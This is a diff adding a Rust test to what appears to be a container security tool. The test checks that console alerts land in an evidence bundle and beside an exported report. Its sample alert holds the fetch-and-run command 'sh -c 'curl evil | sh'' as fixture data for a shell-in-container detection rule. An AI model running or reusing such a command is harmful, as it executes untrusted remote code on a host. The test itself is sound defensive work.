@@ -661,3 +661,54 @@ async fn undo_of_a_new_container_with_an_old_name_points_at_the_old_record() {
         "{m}"
     );
 }
+
+/// The console's alerts about the container go into the evidence bundle (listed in its
+/// manifest) and beside an exported report.
+#[tokio::test]
+async fn the_consoles_alerts_go_into_the_bundle_and_the_export() {
+    let s = Setup::new();
+    let alert = crate::activity::Alert {
+        time: chrono::Utc::now(),
+        container: Some(crate::activity::ContainerRef {
+            id: ID.into(),
+            name: "web".into(),
+        }),
+        rule: "SW-ACT-EXEC-001".into(),
+        severity: crate::risk::Severity::High,
+        title: "Shell in container".into(),
+        detail: "sh -c 'curl evil | sh'".into(),
+        technique: "T1059.004".into(),
+        score_bump: 10,
+    };
+    let with_alerts = |kind| {
+        let mut r = ActionRequest::new(kind, s.target());
+        r.options.alerts = Some(vec![alert.clone()]);
+        r
+    };
+    let outcome = s.runner.run(with_alerts(ActionKind::Isolate)).await;
+    assert!(outcome.result.is_ok(), "{outcome:?}");
+    let bundle = outcome.paths.first().expect("a bundle");
+    let manifest = evidence::verify(bundle).expect("the bundle matches its manifest");
+    assert!(
+        manifest.files.iter().any(|f| f.name == "alerts.json"),
+        "{manifest:?}"
+    );
+    let text = std::fs::read_to_string(bundle.join("alerts.json")).unwrap();
+    assert!(
+        text.contains("SW-ACT-EXEC-001") && text.contains("curl evil"),
+        "{text}"
+    );
+
+    // The export (which reads the daemon through the real connector) writes them beside
+    // its first report file.
+    let first = s.dir.path().join("reports").join("host-web-20261203.json");
+    std::fs::create_dir_all(first.parent().unwrap()).unwrap();
+    let file = &super::export::write_alerts(&first, std::slice::from_ref(&alert)).unwrap();
+    assert_eq!(file.file_name().unwrap(), "host-web-20261203.alerts.json");
+    let back: Vec<crate::activity::Alert> =
+        serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
+    assert_eq!(back, vec![alert]);
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(file).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600);
+}
